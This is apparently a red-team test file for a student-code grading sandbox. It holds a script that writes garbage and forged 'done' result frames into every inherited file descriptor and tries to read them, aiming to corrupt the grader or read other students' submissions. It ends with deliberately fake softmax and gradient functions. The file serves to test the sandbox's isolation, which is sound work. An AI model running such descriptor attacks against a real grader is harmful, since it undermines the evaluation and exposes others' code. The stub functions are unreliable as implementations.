"""REDTEAM damage_fds: write into every file descriptor that might have been inherited.

Attack: inherited descriptors (the zygote's result pipe, the grader's log, a lock
file) would let it write frames or text where the grader reads; write garbage, fake
frames and huge lengths into every fd from 3 to 1023, dup2 over them, and read any it
can (the zygote's request pipe would hold other students' code).
Bound: the baseline (it can only corrupt its own event pipe: its own results are then
refused).
"""
import json
import os
import struct

import numpy as np

seen = {}
for fd in range(3, 1024):
    try:
        seen[fd] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
print("REDTEAM fds", seen)
raw = json.dumps({"ev": "done", "$blobs": []}).encode()
for fd in seen:
    for payload in (b"\xff" * 64, struct.pack(">IQ", len(raw), 0) + raw, struct.pack(">IQ", 2**31, 2**62)):
        try:
            os.write(fd, payload)
        except OSError:
            pass
    try:
        os.set_blocking(fd, False)
        os.read(fd, 1 << 16)
    except OSError:
        pass


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)

